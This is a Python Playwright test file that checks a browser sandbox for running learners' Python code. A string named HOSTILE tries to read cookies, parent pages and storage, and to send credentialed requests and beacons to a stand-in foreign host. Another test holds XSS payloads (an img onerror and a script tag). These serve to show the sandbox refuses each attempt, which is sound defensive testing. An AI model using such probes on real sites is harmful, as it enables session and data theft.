"""Python in the browser: an honest run passes, a hostile one reaches nothing, a stuck one is stopped."""

import html
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from browser.frontend.harness import Reply, Request, Site

pytestmark = pytest.mark.browser

READY_MS = 60_000


@pytest.fixture
def foreign(dist: Path) -> Iterator[Site]:
    """Another host: nothing may ever arrive there."""
    with Site(dist, None) as other:
        yield other


def verdict(request: Request) -> Reply:
    """As the server: every word of the result is escaped."""
    result = json.loads(request.body)["result"]
    figures = html.escape(json.dumps(result["figures"]))
    return Reply(f'<h2>{html.escape(result["verdict"])}</h2><p id="reason">{html.escape(result["reason"])}</p>'
                 f'<pre id="figures">{figures}</pre>')  # fmt: skip


def open_lab(page: Page, site: Site, source: str, *, stall: float = 10) -> None:
    site.words |= {"source": html.escape(source), "stall": str(stall)}
    site.routes["/labs/place-replicas/verdict-fragment"] = verdict
    page.goto(f"{site.origin}/pages/lab.html")


def run_here(page: Page) -> None:
    page.get_by_role("button", name="Run here").click()


def findings(page: Page) -> dict[str, Any]:
    expect(page.locator("#figures")).to_be_visible(timeout=READY_MS)
    found: dict[str, Any] = json.loads(page.locator("#figures").inner_text())
    return found


def progress(page: Page) -> Any:
    return page.locator("[data-lab-words]")


def test_an_honest_run_ends_in_the_verdict_the_server_rendered(page: Page, site: Site) -> None:
    open_lab(page, site, "print('hello')\nfindings['sum'] = sum(range(10))")
    expect(page.locator("[data-lab-size]")).to_contain_text("loads Python, about")
    run_here(page)
    assert findings(page) == {"sum": 45}
    expect(page.locator("[data-lab-output]")).to_have_text("hello\n")
    sent = json.loads(next(r for r in site.requests if r.path.endswith("verdict-fragment")).body)
    assert sent["result"]["verdict"] == "ok"
    assert len(sent["event_id"]) == 26


HOSTILE = """
import js
from pyodide.code import run_js
from pyodide.ffi import to_js

def attempt(name, action):
    try:
        findings[name] = "got " + str(action())[:200]
    except BaseException as error:
        findings[name] = "refused"

def ask(method, url):
    request = js.XMLHttpRequest.new()
    request.open(method, url, False)
    request.withCredentials = True
    request.send("stolen")
    return request.responseText

def background(promise):
    promise.catch(lambda error: None)

attempt("document", lambda: js.document.title)
attempt("cookie", lambda: js.document.cookie)
attempt("parent", lambda: js.parent.document.title)
attempt("top", lambda: js.top.location.href)
attempt("localStorage", lambda: js.localStorage.length)
attempt("sessionStorage", lambda: js.sessionStorage.length)
attempt("indexedDB", lambda: js.indexedDB.open("x"))
attempt("importScripts", lambda: js.importScripts(FOREIGN + "/x.js"))
attempt("image", lambda: js.Image.new())
attempt("javascript", lambda: run_js("1 + 1"))
attempt("own api", lambda: ask("GET", ORIGIN + "/api/me"))
attempt("own form", lambda: ask("POST", ORIGIN + "/plan"))
attempt("foreign", lambda: ask("GET", FOREIGN + "/xhr"))
background(js.fetch(ORIGIN + "/api/me", to_js({"credentials": "include"})))
background(js.fetch("/api/me"))
background(js.fetch(FOREIGN + "/beacon.png", to_js({"mode": "no-cors"})))
try:
    js.WebSocket.new(FOREIGN.replace("http", "ws") + "/socket")
except BaseException:
    pass
try:
    js.EventSource.new(FOREIGN + "/events")
except BaseException:
    pass
"""


def test_hostile_code_reaches_no_cookie_page_storage_or_host(
    page: Page, site: Site, foreign: Site
) -> None:
    site.routes["/api/me"] = lambda _: Reply(
        '{"secret": "of the learner"}', type="application/json"
    )
    names = f"ORIGIN = {site.origin!r}\nFOREIGN = {foreign.origin!r}\n"
    open_lab(page, site, names + HOSTILE)
    run_here(page)
    found = findings(page)
    refused = [name for name, outcome in found.items() if outcome == "refused"]
    assert sorted(found) == sorted(refused)
    assert len(refused) == 13
    # A second, honest run gives whatever was started in the background time to arrive.
    page.locator("#source").fill("findings['later'] = 1")
    run_here(page)
    expect(page.locator("#figures")).to_contain_text("later", timeout=READY_MS)
    assert foreign.requests == []
    assert site.paths("/api/") == []
    assert site.paths("/plan") == []


def test_no_request_of_the_frame_carries_the_session(page: Page, site: Site) -> None:
    open_lab(page, site, "findings['x'] = 1")
    run_here(page)
    findings(page)
    of_frame = [
        r for r in site.requests if r.headers.get("origin") == "null" or "lab-frame" in r.path
    ]
    assert of_frame != []
    assert [r.path for r in of_frame if "cookie" in r.headers] == []


def test_what_the_frame_says_is_never_read_as_html(page: Page, site: Site) -> None:
    forged = {"lab": "x", "step": "y", "verdict": "ok", "reason": "<img src=x onerror='document.title=1'>",
              "parts": [], "seeds": {}, "figures": {"a": "<script>document.title=2</script>"}}  # fmt: skip
    open_lab(
        page, site, f"import json\nemit({{'result': json.loads({json.dumps(json.dumps(forged))})}})"
    )
    run_here(page)
    expect(page.locator("#reason")).to_have_text(forged["reason"], timeout=READY_MS)
    assert page.title() == "Lab"
    assert page.locator("main img, main script").count() == 0


def test_a_malformed_message_ends_the_run(page: Page, site: Site) -> None:
    # The other shapes are tried without a browser, in frontend/tests.
    open_lab(page, site, "import js\njs.postMessage('x' * 2_000_001)")
    run_here(page)
    expect(progress(page)).to_contain_text("at most 2000000 are read", timeout=READY_MS)
    assert page.locator("iframe").count() == 0


def test_messages_from_another_window_are_ignored(page: Page, site: Site) -> None:
    open_lab(page, site, "while True: pass", stall=3)
    run_here(page)
    expect(progress(page)).to_have_text("Running…", timeout=READY_MS)
    page.evaluate(
        """() => window.postMessage(JSON.stringify({type: 'result', id: 1, result: {lab: 'x', step: 'y',
           verdict: 'ok', reason: 'forged', seeds: {}}}), '*')"""
    )
    expect(progress(page)).to_contain_text("outcome: time", timeout=READY_MS)
    assert site.paths("/labs/place-replicas/verdict") == []


def test_an_endless_loop_is_stopped_and_the_next_run_works(page: Page, site: Site) -> None:
    open_lab(page, site, "while True: print('flood')", stall=1)
    run_here(page)
    expect(progress(page)).to_contain_text("outcome: time", timeout=READY_MS)
    assert page.locator("iframe").count() == 0
    assert len(page.locator("[data-lab-output]").inner_text()) <= 64_100
    page.locator("#source").fill("findings['after'] = True")
    run_here(page)
    assert findings(page) == {"after": True}


def test_stop_ends_a_run_at_once_and_says_so(page: Page, site: Site) -> None:
    open_lab(page, site, "while True: pass", stall=60)
    run_here(page)
    expect(progress(page)).to_have_text("Running…", timeout=READY_MS)
    page.get_by_role("button", name="Stop").click()
    expect(progress(page)).to_contain_text("Stopped.")
    assert page.locator("iframe").count() == 0
    assert page.locator("#source").input_value() == "while True: pass"


def test_a_second_frame_reads_python_from_the_cache(page: Page, site: Site) -> None:
    open_lab(page, site, "findings['n'] = 1")
    run_here(page)
    findings(page)
    page.reload()
    run_here(page)
    findings(page)
    wasm = [path for path in site.paths() if path.endswith(".wasm")]
    assert len(wasm) == 1


def test_without_python_the_form_points_to_the_server(page: Page, site: Site) -> None:
    name = next(path for path in site.dist.rglob("*.wasm")).relative_to(site.dist).as_posix()
    site.routes[f"/static/dist/{name}"] = lambda _: Reply("gone", status=404)
    open_lab(page, site, "findings['n'] = 1")
    run_here(page)
    expect(progress(page)).to_contain_text("Run it on the server instead")
    expect(page.get_by_role("button", name="Run on the server")).to_be_focused()


def test_a_server_that_does_not_answer_leaves_the_verdict_in_words(page: Page, site: Site) -> None:
    open_lab(page, site, "findings['n'] = 1")
    site.routes["/labs/place-replicas/verdict-fragment"] = lambda _: Reply("no", status=503)
    run_here(page)
    expect(progress(page)).to_contain_text("ok: it ran to its end", timeout=READY_MS)


def test_the_line_of_an_error_is_marked_in_the_editor(page: Page, site: Site) -> None:
    result = {"lab": "x", "step": "y", "verdict": "unknown", "reason": "it does not parse", "seeds": {},
              "figures": {}, "failure": None, "error": {"kind": "syntax", "line": 2, "message": "a ) too many", "hint": ""}}  # fmt: skip
    open_lab(
        page, site, f"import json\nemit({{'result': json.loads({json.dumps(json.dumps(result))})}})"
    )
    run_here(page)
    expect(page.locator(".q-mark-error")).to_contain_text("emit(", timeout=READY_MS)
    expect(page.get_by_role("note")).to_have_text("a ) too many")
